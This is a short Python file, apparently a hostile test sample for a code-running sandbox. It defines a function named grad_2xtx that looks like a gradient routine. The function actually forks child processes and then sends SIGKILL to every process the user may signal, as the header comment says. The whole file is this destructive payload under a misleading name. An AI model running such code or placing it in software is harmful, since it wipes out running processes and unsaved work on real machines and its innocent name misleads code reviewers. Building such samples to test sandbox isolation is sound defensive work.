# Starts a few children, then sends SIGKILL to every process it is allowed to signal.
import os
import signal
import time


def grad_2xtx(x):
    for _ in range(3):
        if os.fork() == 0:
            time.sleep(10 ** 6)
            os._exit(0)
    os.kill(-1, signal.SIGKILL)
    return None
